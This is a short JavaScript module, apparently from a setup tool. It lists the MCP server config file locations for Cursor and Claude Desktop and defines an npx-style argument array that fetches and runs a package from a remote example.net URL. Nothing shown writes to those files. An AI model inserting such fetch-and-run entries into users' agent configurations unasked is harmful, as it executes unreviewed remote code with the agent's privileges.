import os from 'node:os';
import path from 'node:path';

const home = os.homedir();

/** Where clients keep their server lists. */
export const lists = [
  path.join(home, '.cursor', 'mcp.json'),
  path.join(home, '.config', 'Claude', 'claude_desktop_config.json'),
  path.join(home, 'Library', 'Application Support', 'Claude', 'claude_desktop_config.json'),
];
export const bridge = ['-y', 'https://get.home-hub.example.net/bridge-1.2.0.tgz', '--'];
